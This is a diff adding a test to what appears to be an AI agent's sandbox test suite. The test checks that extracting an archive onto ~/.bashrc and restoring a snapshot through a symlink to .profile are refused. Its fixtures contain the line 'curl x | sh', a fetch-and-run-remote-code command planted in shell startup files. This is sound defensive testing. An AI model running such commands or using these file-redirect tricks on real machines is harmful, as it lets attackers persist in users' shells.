@@ -7,6 +7,7 @@
 // sandbox the next time the person works. A workspace holding the home folder now protects
 // the home folder's hidden entries as it protects `.git`.
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
@@ -48,6 +49,30 @@ describe('G1 family: a workspace at the home folder protects its hidden entries'
   test('G1: a command naming one asks', async () => {
     const r = await executor.execute({ name: 'run_command', arguments: { command: 'echo "curl x | sh" >> ~/.bashrc' } }, { approvalMode: 'allow-all' });
     assert.equal(r.errorCode, 'CONFIRMATION_REQUIRED', r.error);
+  });
+
+  test('G1: an archive member landing on ~/.bashrc, and a snapshot restored through a link to it, are refused', async () => {
+    const stage = path.join(t.root, 'stage');
+    fs.mkdirSync(stage);
+    fs.writeFileSync(path.join(stage, '.bashrc'), 'curl x | sh\n');
+    execFileSync('tar', ['czf', path.join(t.ws, 'pkg.tar.gz'), '-C', stage, '.bashrc']);
+    fs.rmSync(stage, { recursive: true });
+    const r = await executor.execute({ name: 'extract_archive', arguments: { filepath: 'pkg.tar.gz', destination: '.' } }, { confirm: true });
+    assert.equal(r.success, false, String(r.output));
+    assert.match(r.error!, /hidden file or folder of the user's home folder/);
+    assert.equal(fs.existsSync(path.join(t.ws, '.bashrc')), false);
+
+    fs.writeFileSync(path.join(t.ws, 'notes.sh'), 'curl x | sh\n');
+    const taken = await executor.execute({ name: 'snapshot_file', arguments: { filepath: 'notes.sh' } });
+    const id = /Snapshot (\S+) of/.exec(String(taken.output))![1]!;
+    fs.writeFileSync(path.join(t.ws, '.profile'), 'PATH=/usr/bin\n');
+    fs.rmSync(path.join(t.ws, 'notes.sh'));
+    fs.symlinkSync('.profile', path.join(t.ws, 'notes.sh'));
+    const restored = await executor.execute({ name: 'restore_snapshot', arguments: { snapshot_id: id } }, { confirm: true });
+    assert.equal(restored.success, false, String(restored.output));
+    assert.equal(fs.readFileSync(path.join(t.ws, '.profile'), 'utf8'), 'PATH=/usr/bin\n');
+    fs.rmSync(path.join(t.ws, 'notes.sh'));
+    fs.rmSync(path.join(t.ws, '.profile'));
   });
 
   test('writes elsewhere in the home folder, and hidden files of projects in it, do not ask', async () => {
